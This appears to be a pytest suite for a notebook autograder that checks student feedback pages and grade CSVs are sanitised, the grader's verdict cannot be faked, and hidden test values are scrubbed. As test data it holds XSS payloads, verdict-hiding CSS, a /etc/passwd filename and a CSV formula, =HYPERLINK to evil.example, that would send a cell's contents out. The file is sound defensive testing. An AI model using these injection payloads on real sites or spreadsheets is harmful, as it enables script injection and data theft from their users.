"""The feedback and CSV boundary: what a student's notebook, kernel or folder name puts on a feedback
page or into grades.csv is inert, bounded and scrubbed of hidden numbers; the grader's banner and
verdicts come first and cannot be hidden; the leak check is linear; one student's failure costs
no other student their page.
"""
import csv
import os
import subprocess
import sys
import time
from pathlib import Path

import nbformat
import numpy as np
import pytest

from autograder import catalogue, feedback, grades, hygiene, sanitize
from autograder.config import CourseError
from autograder.hygiene import LeakError
from autograder.report import CaseResult, SubmissionReport, TaskResult

SLUG = "01_fc_layer"
REPO = Path(__file__).resolve().parent.parent
FAKE_BANNER = "<div class='backprop-lab-status'><h2>01_fc_layer: 8 / 8 points</h2></div>"
HIDE = "<style>.backprop-lab-verdict, .backprop-lab-status {display:none !important}</style>"


def secret_input():
    return float(hygiene.hidden_input_values(SLUG)[5])


def secret_reference():
    return float(hygiene.reference_values(SLUG)[7])


# --- the sanitiser -------------------------------------------------------------------------------

@pytest.mark.parametrize("hostile, gone", [
    (HIDE + "<p>hi</p>", ["<style", "display:none"]),
    ("<script>alert(1)</script><p>hi</p>", ["<script", "alert"]),
    ("<img src=x onerror=alert(1)><p>hi</p>", ["onerror", "alert", 'src="x"']),
    ('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(2)</script><circle r="5"/></svg><p>hi</p>',
     ["<svg", "<script", "alert"]),
    ("<a href='javascript:alert(1)'>x</a><p>hi</p>", ["javascript:"]),
    ("<iframe srcdoc='<script>alert(1)</script>'></iframe><object data='x'></object><p>hi</p>",
     ["<iframe", "<object", "alert"]),
    (FAKE_BANNER + "<p style='position:fixed' class='backprop-lab-verdict' id='top'>hi</p>",
     ["class=", "style=", "id="]),
    ("<div><p>hi</p></div></div></div></body><style>body{display:none}</style>", ["</body", "<style"]),
])
def test_student_html_is_inert_and_stays_in_its_frame(hostile, gone):
    clean = sanitize.student_html(hostile)
    assert "hi" in clean
    for piece in gone:
        assert piece not in clean.split("'backprop-lab-student'>", 1)[1]
    # balanced: the frame closes last, the student cannot close the page's elements
    inner = clean[len("<div class='backprop-lab-student'>"):-len("</div>")]
    assert inner.count("<div") == inner.count("</div>")


def test_raster_images_stay_other_images_go():
    png = "data:image/png;base64,iVBORw0KGgo="
    assert png in sanitize.clean_html(f"<img src='{png}'>")
    assert "src" not in sanitize.clean_html("<img src='https://example.org/track.png'>")
    assert "src" not in sanitize.clean_html("<img src='data:image/svg+xml;base64,PHN2Zz4='>")


def report_with(tasks):
    return SubmissionReport(student="s", assignment=SLUG, status="graded", message="Graded.", tasks=tasks)


def hostile_notebook():
    """A graded notebook as a hostile kernel could leave it."""
    code = nbformat.v4.new_code_cell
    out = nbformat.v4.new_output
    cells = [
        nbformat.v4.new_markdown_cell("# Mine\n<style>body{display:none}</style>\n<script>alert(4)</script>\n"
                                      "<img src=x onerror=alert(5)>\n" + FAKE_BANNER),
        code("display(...)", outputs=[
            out("display_data", data={"text/html": HIDE, "text/plain": "style"}),
            out("display_data", data={"text/html": FAKE_BANNER}),
            out("display_data", data={"text/html": "<script>alert(1)</script><img src=x onerror=alert(1)>"}),
            out("display_data", data={"application/javascript": "alert(3)", "text/plain": "<Javascript>"}),
            out("display_data", data={"image/svg+xml": "<svg><script>alert(2)</script></svg>"}),
            out("display_data", data={"application/vnd.jupyter.widget-view+json": {"model_id": "x"}}),
            out("display_data", data={"text/html": "<p>isolated</p>"}, metadata={"text/html": {"isolated": True}}),
            out("display_data", data={"image/png": "iVBORw0KGgo="},
                metadata={"image/png": {"width": "1 onerror=alert(6)"}, "filenames": {"image/png": "/etc/passwd"}}),
            out("display_data", data={"text/markdown": "<style>*{color:red}</style> **bold**"}),
            out("stream", name="stdout", text="fine\n"),
        ]),
        code("test cell", outputs=[
            out("stream", name="stdout", text="student print in the test cell\n"),
            out("display_data", data={"text/html": "<div class='backprop-lab-verdict'>fc_forward: 3 / 3 points"
                                                    "</div>", "text/plain": "Autograder: fc_forward: 3 / 3"}),
        ]),
        nbformat.v4.new_raw_cell("<style>body{display:none}</style>"),
    ]
    cells[2].metadata["nbgrader"] = {"grade": True, "solution": False, "grade_id": "test_fc_forward",
                                     "points": 3, "score": 0, "locked": True, "schema_version": 3}
    cells[1].metadata["nbgrader"] = {"grade": False, "solution": True, "grade_id": "fc_forward", "locked": False,
                                     "schema_version": 3, "comment": f"0 / 3: raised ValueError: x = [{secret_input()!r}]"}
    cells[1].metadata["tags"] = ['x"><style>body{display:none}</style>']
    nb = nbformat.v4.new_notebook(cells=cells)
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": "</script><script>alert(7)"}}
    return nb


def render(nb, tmp_path, report):
    report.write(tmp_path)
    import nbgrader
    from traitlets.config import Config

    resources = {"metadata": {"path": str(tmp_path)}, "nbgrader": {
        "assignment": SLUG, "notebook": SLUG, "score": 0, "max_score": 8, "late_penalty": 0}}
    nb, resources = sanitize.SanitizeOutputs().preprocess(nb, resources)
    formgrader = Path(nbgrader.__file__).parent / "server_extensions" / "formgrader"
    c = Config()  # what nbgrader's GenerateFeedback sets up
    c.HTMLExporter.template_name = "feedback"
    c.HTMLExporter.extra_template_basedirs = [str(formgrader / "templates")]
    c.HTMLExporter.extra_template_paths = [str(formgrader / "static/node_modules/bootstrap/dist/css")]
    c.HTMLExporter.exclude_anchor_links = True
    exporter = sanitize.SafeFeedbackExporter(config=c)
    body, _ = exporter.from_notebook_node(nb, resources=resources)
    return sanitize.finish_page(body, feedback.banner(report, SLUG))


def test_a_hostile_notebook_gives_an_inert_page_with_the_real_verdict(tmp_path):
    x = secret_input()
    task = TaskResult(task="fc_forward", points=3, score=0, status="graded", message="0 of 1 hidden cases passed",
                      cases=[CaseResult(name="batch of 4", passed=False,
                                        problems=[f"raised ValueError: bad x = [{x!r} 0.5]"])])
    page = render(hostile_notebook(), tmp_path, report_with([task]))
    assert sanitize.audit(page) == []
    body = page.split("<body", 1)[1]
    assert "<style" not in body and "<script" not in page.lower()
    assert "alert(" not in page  # no script survives, not even as text
    for gone in ("onerror", "isolated-iframe", "/etc/passwd", "data:image/svg+xml", "widget-state"):
        assert gone not in page
    assert sanitize.CSP_META in page.split("</head>")[0]
    # the real banner first, the real verdict re-rendered from the report, the fake one gone
    assert body.split(">", 1)[1].startswith("<div class='backprop-lab-status'>")
    assert "Autograder — fc_forward: 0 / 3 points" in page
    assert "fc_forward: 3 / 3 points" not in page
    # the student's fake banner is text inside their own output frame, after the real one
    fake_at = page.index('<div class="backprop-lab-student"><div><h2>01_fc_layer: 8 / 8 points')
    assert page.index("class='backprop-lab-status'") < fake_at
    assert page.count("backprop-lab-status") == page.count("class='backprop-lab-status'") + page.count(
        ".backprop-lab-status")
    # the hidden input quoted by the kernel's error text is scrubbed
    assert repr(x) not in page and "bad x = […" in page.replace("&amp;", "&")
    assert "Comments:" in page and "raised ValueError: x = […]" in page  # the gradebook's comment, scrubbed
    assert "scripts, widgets and SVG are left out" in page
    assert "student print in the test cell" in page


def test_audit_names_what_a_page_must_not_have():
    banner = feedback.banner(report_with([]), SLUG)
    good = sanitize.status_page(SLUG, banner)
    assert sanitize.audit(good) == []
    assert sanitize.audit(good.replace("</body>", "<style>x{}</style></body>")) == ["a <style> in the body"]
    assert "a <script> element" in sanitize.audit(good.replace("</body>", "<script>1</script></body>"))
    assert any("onerror" in p for p in sanitize.audit(good.replace("</body>", "<img onerror=x></body>")))
    assert "no Content-Security-Policy" in sanitize.audit(good.replace(sanitize.CSP_META, ""))
    assert "the grader's banner is not the first thing on the page" in sanitize.audit(
        good.replace("<body>", "<body><p>first</p>"))


def markdown_page(source: str) -> str:
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_markdown_cell(source)]
    page, _ = sanitize.SafeFeedbackExporter().from_notebook_node(nb)
    return page


def test_math_is_typeset_as_inert_mathml_and_hostile_latex_stays_text():
    page = markdown_page(r"""The error term (误差项) $\delta_j = a_j(1-a_j)\sum_k w_{kj}\delta_k$, and
$$\frac{\partial E}{\partial w_{ji}} = -\delta_j x_{ji}$$
$\href{javascript:alert(1)}{x}$ $\style{background:url(http://evil.example/)}{y}$ <math><mi>raw</mi></math>
bplabmath0000000000000000x0x $x^{""" + "{" * 400 + "}" * 400 + r"""}$ $""" + "a+" * 1500 + "a$")
    assert sanitize.audit(sanitize.finish_page(page, feedback.banner(report_with([]), SLUG))) == []
    body = page[page.index("<body"):]
    assert "<mfrac>" in body and "<mi>δ</mi>" in body and body.count("<math") >= 4
    assert "javascript" not in body and "evil.example" not in body and "raw" not in body
    assert "bplabmath0000000000000000x0x" in body  # a forged token is text
    assert "$a+a+a+" in body  # a formula over the length bound stays LaTeX text


def test_the_formulas_of_a_page_are_bounded():
    page = markdown_page(" ".join(f"$x_{{{i}}}$" for i in range(sanitize.mathml.MAX_FORMULAS + 50)))
    assert page.count("<math") == sanitize.mathml.MAX_FORMULAS
    assert f"$x_{{{sanitize.mathml.MAX_FORMULAS + 49}}}$" in page


# --- the banner --------------------------------------------------------------------------------------

def test_the_summary_table_has_a_header_and_separate_columns():
    tasks = [TaskResult(task="conv_backward_single_channel", points=2, score=1 / 3, status="graded",
                        message="1 of 6 hidden cases passed <script>x</script>" + "y" * 5000)]
    top = feedback.banner(report_with(tasks), SLUG)
    assert "<th>Task" in top and "<th>Score" in top and "<th>What happened</th>" in top
    assert "<table border='1'" in top
    text = sanitize.nh3.clean(top, tags=set())  # the page as plain text
    assert "conv_backward_single_channel | 0.33 / 2 | 1 of 6 hidden cases passed" in text
    assert "<script>" not in top and len(top) < 2000


# --- the leak check and scrub ------------------------------------------------------------------------

def test_close_is_exact_against_the_quadratic_definition():
    rng = np.random.default_rng(0)
    values = np.concatenate([rng.normal(size=500), -rng.normal(size=100) * 1e3, [0.0]])
    numbers = np.concatenate([rng.choice(values, 300) * (1 + rng.uniform(-2e-6, 2e-6, 300)),
                              rng.normal(size=300), [0.0, 1e-300, -0.0]])
    quadratic = (np.abs(numbers[:, None] - values[None, :]) <= 1e-6 * np.abs(values[None, :])).any(axis=1)
    assert (hygiene._close(numbers, values) == quadratic).all()
    assert 100 < quadratic.sum() < 300


def test_the_leak_check_is_linear_on_a_50_mb_reply_of_numbers(tmp_path):
    """A 54 MB reply of numbers made the N x M check allocate 27.4 GiB; now it runs in 1 GiB."""
    script = f"""
import resource, sys, time
sys.path.insert(0, {str(REPO)!r})
import numpy as np
from pathlib import Path
from autograder import hygiene
hygiene.reference_values({SLUG!r}); hygiene.secret_values({SLUG!r})
resource.setrlimit(resource.RLIMIT_AS, (2 * 2**30, 2 * 2**30))
rng = np.random.default_rng(1)
chunk = " ".join(f"{{v:.8f}}" for v in rng.normal(size=100_000))
secret = float(hygiene.secret_values({SLUG!r})[3])
folder = Path({str(tmp_path)!r})
with open(folder / "reply.txt", "w") as handle:
    while handle.tell() < 50 * 2**20:
        handle.write(chunk + " ")
    handle.write(repr(secret))
start = time.monotonic()
findings = hygiene.find_leaks(folder, {SLUG!r}, every_file=True, hidden_inputs=True)
text = (folder / "reply.txt").read_text()
scrubbed = hygiene.scrub(text, {SLUG!r}, limit=None)
print(time.monotonic() - start, len(findings), repr(secret) in scrubbed)
"""
    out = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=300)
    assert out.returncode == 0, out.stderr[-2000:]
    seconds, findings, still_there = out.stdout.split()
    assert float(seconds) < 60 and int(findings) >= 1 and still_there == "False"


def test_scrub_replaces_reference_and_hidden_input_numbers_only():
    x, ref = secret_input(), secret_reference()
    text = f"raised ValueError: x = [{x!r} {x:.8f} 0.12345] expected {ref!r}; took 0.0729 s"
    clean = hygiene.scrub(text, SLUG)
    assert repr(x) not in clean and f"{x:.8f}" not in clean and repr(ref) not in clean
    assert "0.12345" in clean and "0.0729" in clean and clean.count("…") == 3


def test_scrub_is_bounded_and_never_keeps_half_a_number():
    x = secret_input()
    huge = "e" * 1995 + repr(x) * 1_000_000
    start = time.monotonic()
    clean = hygiene.scrub(huge, SLUG)
    assert time.monotonic() - start < 2
    assert len(clean) <= hygiene.SCRUB_LIMIT + 1 and clean.endswith("…")
    assert not any(c.isdigit() for c in clean)
    assert hygiene.scrub(12, SLUG) == "12"


def test_every_returned_file_is_checked_and_links_are_findings(tmp_path):
    (tmp_path / "data.bin").write_bytes(b"\x00\x01" + repr(secret_input()).encode())
    (tmp_path / "zero").symlink_to("/dev/zero")
    findings = hygiene.find_leaks(tmp_path, SLUG, every_file=True, hidden_inputs=True)
    assert any(f.startswith("data.bin: contains the hidden value") for f in findings)
    assert any(f.startswith("zero: is a link") for f in findings)


def test_the_feedback_folder_keeps_the_page_only(tmp_path):
    page = tmp_path / f"{SLUG}.html"
    page.write_text("page")
    (tmp_path / "grading.json").write_text("{}")
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "reference.py").write_text("x")
    (tmp_path / "zero").symlink_to("/dev/zero")
    (tmp_path / "solutions").symlink_to(REPO / "solutions", target_is_directory=True)
    feedback._keep_only(tmp_path, page)
    assert sorted(os.listdir(tmp_path)) == [page.name]
    assert (REPO / "solutions").is_dir()


def test_only_well_formed_exchange_files_reach_the_feedback_folder(tmp_path):
    secret = tmp_path / "secret-elsewhere"
    secret.write_text("s3cr3t")
    hostile = {"timestamp.txt": "2026-11-30 09:00:00.000000 UTC\n<script>x</script>",
               "submission_secret.txt": None}  # a link, below
    cases = {"ok": {"timestamp.txt": "2026-11-30 09:00:00.000000 UTC", "submission_secret.txt": "abc123=="},
             "html": hostile, "big": {"timestamp.txt": "2" * 300, "submission_secret.txt": "a" * 300}}
    for student, files in cases.items():
        submitted, folder = tmp_path / "submitted" / student, tmp_path / "feedback" / student
        submitted.mkdir(parents=True)
        folder.mkdir(parents=True)
        for name, text in files.items():
            if text is None:
                (submitted / name).symlink_to(secret)
            else:
                (submitted / name).write_text(text)
        feedback._exchange_files(submitted, folder)
    assert sorted(os.listdir(tmp_path / "feedback" / "ok")) == ["submission_secret.txt", "timestamp.txt"]
    assert (tmp_path / "feedback" / "ok" / "submission_secret.txt").read_text() == "abc123=="
    assert os.listdir(tmp_path / "feedback" / "html") == [] and os.listdir(tmp_path / "feedback" / "big") == []


def test_one_students_failure_never_stops_anothers_feedback(tmp_path):
    for student in ("broken", "fine"):
        (tmp_path / "submitted" / student / SLUG).mkdir(parents=True)
        (tmp_path / "autograded" / student / SLUG).mkdir(parents=True)
    (tmp_path / "autograded" / "broken" / SLUG / "grading.json").write_text("{ not json")
    report = report_with([])
    report.student, report.status, report.message = "fine", "missing notebook", "No notebook was submitted."
    report.write(tmp_path / "autograded" / "fine" / SLUG)
    lines = []
    with pytest.raises(LeakError, match="broken"):
        feedback.generate(tmp_path, [SLUG], log=lines.append)
    page = (tmp_path / "feedback" / "fine" / SLUG / f"{SLUG}.html").read_text()
    assert "missing notebook" in page and sanitize.audit(page) == []
    assert not (tmp_path / "feedback" / "broken" / SLUG).exists()
    assert any("broken" in line and "withheld" in line for line in lines)


# --- CSV -------------------------------------------------------------------------------------------

def test_csv_cells_that_look_like_formulas_stay_text(tmp_path):
    name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    table = [dict(student=name, assignment=SLUG, task="fc_forward", score=-1.5, max_score=3, status="graded",
                  message="@SUM(A1:A9)"),
             dict(student="\tcmd", assignment=SLUG, task="fc_backward", score=0.0, max_score=4, status="graded",
                  message="-2+3"),
             dict(student="+1", assignment=SLUG, task="sgd_step", score=1.0, max_score=1, status="graded",
                  message="\rx")]
    path = tmp_path / "grades.csv"
    grades._write(path, grades.COLUMNS, table)
    got = list(csv.DictReader(path.open(newline="")))
    assert [r["student"] for r in got] == ["'" + name, "'\tcmd", "'+1"]
    assert [r["message"] for r in got] == ["'@SUM(A1:A9)", "'-2+3", "'\rx"]
    assert [r["score"] for r in got] == ["-1.5", "0.0", "1.0"]  # numbers stay numbers


def test_grades_summary_has_one_row_per_student_and_blank_where_not_graded():
    row = lambda student, slug, score, status="graded": dict(  # noqa: E731
        student=student, assignment=slug, task="t", score=score, max_score=1, status=status, message="")
    table = [row("ann", "a1", 1.0), row("ann", "a1", 0.5), row("ann", "a2", 0.0, "not graded"),
             row("bob", "a2", 2.0), row("=x", "a1", 0.0, "missing notebook")]
    summary = grades.per_student(table, ["a1", "a2"])
    assert summary == [{"student": "=x", "a1": 0.0, "a2": "", "total": 0.0},
                       {"student": "ann", "a1": 1.5, "a2": "", "total": 1.5},
                       {"student": "bob", "a1": "", "a2": 2.0, "total": 2.0}]


@pytest.mark.parametrize("lms", ["canvas", "moodle", "pattern"])
def test_the_lms_import_has_the_lms_layout_and_keeps_blanks_blank(tmp_path, lms):
    other = "02_gender_demo"
    (tmp_path / "nbgrader_config.py").write_text(
        f"c = get_config()\nc.BackpropLab.lms = {lms!r}\nc.BackpropLab.lms_columns = {{{SLUG!r}: 'Lab 1 (4711)'}}\n")
    summary = [{"student": "1001", SLUG: 7.5, other: "", "total": 7.5},
               {"student": "=1+2", SLUG: "", other: 3.0, "total": 3.0}]
    written = grades.lms_import(tmp_path, summary, [SLUG, other], tmp_path)
    maximum = {slug: sum(catalogue.points(slug).values()) for slug in (SLUG, other)}
    read = lambda path: list(csv.reader(path.open(newline="", encoding="utf-8")))  # noqa: E731
    if lms == "canvas":
        assert written == [tmp_path / "grades-canvas.csv"]
        assert read(written[0]) == [
            ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Lab 1 (4711)", other],
            ["Points Possible", "", "", "", "", f"{maximum[SLUG]}", f"{maximum[other]}"],
            ["1001", "1001", "", "", "", "7.5", ""],
            ["'=1+2", "'=1+2", "", "", "", "", "3.0"]]
    elif lms == "moodle":
        assert [p.name for p in written] == [f"grades-moodle-{SLUG}.csv", f"grades-moodle-{other}.csv"]
        assert read(written[0]) == [["Identifier", "Grade", "Maximum Grade"],
                                    ["Participant 1001", "7.5", f"{maximum[SLUG]}"]]
        assert read(written[1])[1] == ["Participant =1+2", "3.0", f"{maximum[other]}"]
    else:
        assert written == []


def test_lms_columns_must_name_assignments(tmp_path):
    (tmp_path / "nbgrader_config.py").write_text("c = get_config()\nc.BackpropLab.lms_columns = {'01-fc': 'x'}\n")
    with pytest.raises(CourseError, match="lms_columns names no such assignment: 01-fc"):
        grades.lms_import(tmp_path, [], [SLUG], tmp_path)


# --- end to end --------------------------------------------------------------------------------------

@pytest.mark.slow
def test_a_hostile_notebook_and_a_control_through_autograde_and_feedback(tmp_path):
    from autograder import batch, submissions

    hostile = submissions.with_answers(submissions.reference_notebook(SLUG), {"fc_forward": (
        "def fc_forward(x, w, b):\n    raise ValueError(f'bad x = {x.ravel().tolist()}')")})
    hostile.cells += [nbformat.v4.new_code_cell(
        "from IPython.display import display, HTML, SVG, Javascript\n"
        f"display(HTML({HIDE!r}))\ndisplay(HTML({FAKE_BANNER!r}))\n"
        "display(HTML('<script>document.title=1</script><img src=x onerror=alert(1)>'))\n"
        "display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(2)</script></svg>'))\n"
        "display(Javascript('alert(3)'))"),
        nbformat.v4.new_markdown_cell("<style>body{display:none}</style><script>alert(4)</script>")]
    for student, notebook in {"control": submissions.reference_notebook(SLUG), "hostile": hostile}.items():
        folder = tmp_path / "submitted" / student / SLUG
        folder.mkdir(parents=True)
        nbformat.write(notebook, folder / f"{SLUG}.ipynb")
        (folder / "notes.txt").write_text("extra file")
    reports = {r.student: r for r in batch.autograde(tmp_path, [SLUG], workers=2, cell_timeout=10,
                                                      log=lambda *_: None)}
    feedback.generate(tmp_path, [SLUG], log=lambda *_: None)
    table = grades.export(tmp_path, [SLUG], tmp_path / "grades.csv")
    assert sum(r["score"] for r in table if r["student"] == "control") == 8
    assert reports["control"].status == "graded"
    hidden = hygiene.hidden_input_values(SLUG)
    for student in ("control", "hostile"):
        folder = tmp_path / "feedback" / student / SLUG
        assert os.listdir(folder) == [f"{SLUG}.html"]
        page = (folder / f"{SLUG}.html").read_text(encoding="utf-8")
        assert sanitize.audit(page) == [], student
        assert "<script" not in page.lower() and sanitize.CSP_META in page
        assert page.split("<body", 1)[1].split(">", 1)[1].startswith("<div class='backprop-lab-status'>")
        assert "<style" not in page.split("<body", 1)[1]
        numbers = hygiene._numbers(hygiene.html.unescape(hygiene.TAG.sub("", page)))
        assert not hygiene._close(numbers, hidden).any(), student
    page = (tmp_path / "feedback" / "hostile" / SLUG / f"{SLUG}.html").read_text(encoding="utf-8")
    assert "Autograder — fc_forward: 0 / 3 points" in page and "bad x = " in page
    assert 'onerror="' not in page and "alert(4)" not in page  # (the code cell shows its source, escaped)
    summary = list(csv.DictReader((tmp_path / "grades-summary.csv").open(newline="")))
    assert {r["student"]: float(r["total"]) for r in summary} == {
        s: sum(r["score"] for r in table if r["student"] == s) for s in ("control", "hostile")}
    assert float(next(r for r in summary if r["student"] == "control")["total"]) == 8.0
